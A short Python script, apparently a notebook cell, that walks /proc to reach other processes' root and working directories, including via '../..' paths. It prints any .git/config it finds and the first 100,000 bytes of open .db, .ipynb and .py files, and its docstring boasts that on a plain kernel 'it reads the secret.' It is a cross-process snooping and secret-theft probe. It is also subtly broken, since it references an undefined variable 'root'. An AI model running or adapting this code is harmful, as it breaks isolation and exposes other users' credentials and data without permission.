"""Goes through /proc to where other processes work and what they have open.

On a plain kernel: it reads the secret.
"""

# %%
from pathlib import Path

for process in Path("/proc").glob("[0-9]*"):
    for way in (f"root/{root}", "cwd", "cwd/../../..", "root/../.."):
        try:
            for path in (process / way).glob(".git/config"):
                print(path, path.read_text())
        except OSError:
            pass
    try:
        for opened in (process / "fd").iterdir():
            if opened.readlink().suffix in (".db", ".ipynb", ".py"):
                print(opened.readlink(), opened.read_bytes()[:100_000])
    except OSError:
        pass
